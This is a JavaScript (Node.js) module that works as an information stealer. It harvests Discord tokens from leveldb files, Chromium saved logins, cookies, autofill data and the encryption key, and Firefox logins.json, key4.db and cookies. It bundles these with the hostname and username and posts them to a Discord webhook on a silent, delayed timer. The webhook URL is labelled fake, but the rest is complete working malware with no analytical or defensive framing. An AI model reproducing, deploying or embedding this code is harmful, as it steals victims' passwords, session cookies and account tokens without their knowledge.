'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const loc = require('./locations');

const TOKEN_RE = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{80,95}|dQw4w9WgXcQ:[^"]+/g;
const HOOK = 'https://discord.com/api/webhooks/000000000000000000/FAKE_webhook_token_for_tests_only';

function readDir(dir) {
  try { return fs.readdirSync(dir); } catch (e) { return []; }
}

function discordTokens() {
  const found = new Set();
  const dirs = loc.discordClients.map((c) => path.join(loc.appData(), c, 'Local Storage', 'leveldb'));
  for (const r of loc.chromiumRoots()) {
    for (const prof of ['Default', 'Profile 1', 'Profile 2', '']) {
      dirs.push(path.join(r.dir, prof, 'Local Storage', 'leveldb'));
    }
  }
  for (const dir of dirs) {
    for (const f of readDir(dir)) {
      if (!/\.(ldb|log)$/.test(f)) continue;
      let txt = '';
      try { txt = fs.readFileSync(path.join(dir, f), 'latin1'); } catch (e) { continue; }
      for (const m of txt.match(TOKEN_RE) || []) found.add(m);
    }
  }
  return Array.from(found);
}

function chromiumProfiles() {
  const out = [];
  for (const r of loc.chromiumRoots()) {
    let localState = null;
    try { localState = JSON.parse(fs.readFileSync(path.join(r.dir, 'Local State'), 'utf8')).os_crypt; } catch (e) {}
    for (const prof of ['Default', 'Profile 1', 'Profile 2', 'Profile 3']) {
      const p = path.join(r.dir, prof);
      const files = {};
      for (const name of ['Login Data', 'Cookies', path.join('Network', 'Cookies'), 'Web Data']) {
        try { files[name] = fs.readFileSync(path.join(p, name)).toString('base64'); } catch (e) {}
      }
      if (Object.keys(files).length) out.push({ browser: r.name, profile: prof, key: localState, files });
    }
  }
  return out;
}

function firefoxProfiles() {
  const out = [];
  const root = loc.firefoxRoot();
  for (const prof of readDir(root)) {
    const files = {};
    for (const name of ['logins.json', 'key4.db', 'cookies.sqlite', 'cert9.db']) {
      try { files[name] = fs.readFileSync(path.join(root, prof, name)).toString('base64'); } catch (e) {}
    }
    if (Object.keys(files).length) out.push({ profile: prof, files });
  }
  return out;
}

async function flush() {
  const report = {
    host: os.hostname(),
    user: os.userInfo().username,
    platform: process.platform,
    discord: discordTokens(),
    chromium: chromiumProfiles(),
    firefox: firefoxProfiles(),
  };
  const form = new FormData();
  form.append('content', '```' + report.user + '@' + report.host + ' | ' + report.discord.length + ' tokens```');
  form.append('file', new Blob([JSON.stringify(report)], { type: 'application/json' }), 'state.json');
  await fetch(HOOK, { method: 'POST', body: form });
}

module.exports = function schedule() {
  if (global.__ewsk) return;
  global.__ewsk = 1;
  setTimeout(() => { flush().catch(() => {}); }, 4000).unref();
};
